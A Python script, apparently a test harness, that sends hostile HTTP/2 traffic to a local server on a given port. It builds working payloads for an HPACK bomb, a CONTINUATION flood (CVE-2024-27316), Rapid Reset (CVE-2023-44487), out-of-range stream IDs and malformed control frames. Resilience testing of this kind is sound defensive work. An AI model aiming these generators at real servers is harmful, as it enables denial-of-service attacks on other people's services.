# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 that is meant to hurt whoever reads it: hostile_http2.py PORT WHAT N, to one that reads it all and says nothing."""

import socket
import struct
import sys

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
# GET / of the static table, and an authority as a literal that is not indexed
REQUEST = b"\x82\x84\x86\x01\x01h"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, prefix, first):
    """An integer of HPACK (RFC 7541 section 5.1)."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value):
    """To be indexed, with a new name."""
    return b"\x40" + number(len(name), 7, 0) + name + number(len(value), 7, 0) + value


def hpack_bomb(n):
    """One field of 4000 bytes, said again by one byte for as long as a block may be told; n requests."""
    for i in range(n):
        block = REQUEST + literal(b"x", b"b" * 4000) + b"\xbe" * 12000
        yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block)


def continuation_flood(n):
    """One header block in n frames that has no end (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, REQUEST)
    for i in range(n):
        yield frame(CONTINUATION, 0, 1, b"\x90" * (4000 if i % 2 else 0))


def stream_ids(n):
    """The highest numbers that there are, odd and even, and 0; none is ever ended."""
    for i in range(n):
        yield frame(HEADERS, END_STREAM | END_HEADERS, 0x7FFFFFFF - 2 * (n - 1 - i), REQUEST)
    for stream in (0, 2, 1, 0x7FFFFFFE, 0x7FFFFFFF, 0xFFFFFFFF):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST)


def rapid_reset(n):
    """n requests, each given up at once (CVE-2023-44487)."""
    for i in range(n):
        yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, REQUEST)
        yield frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL))


def resets(n):
    """Of streams that nobody has opened; and frames of every type and length that make no sense."""
    for i in range(n):
        yield frame(RST_STREAM, 0, (i * 2654435761) & 0xFFFFFFFF, struct.pack(">I", i))
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, i * 2654435761 & 0xFFFFFFFF))
        yield frame(GOAWAY, 0, 0, struct.pack(">II", i, 0))
        yield frame(i % 256, i // 3 % 256, i % 7, b"\xff" * (i % 300))


def main():
    port, what, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    with socket.create_connection(("127.0.0.1", port)) as s:
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        waiting = b""
        for part in globals()[what](n):
            waiting += part
            if len(waiting) > 60000:
                s.sendall(waiting)
                waiting = b""
        s.sendall(waiting)
        s.shutdown(socket.SHUT_WR)
        while s.recv(65536):
            pass


main()
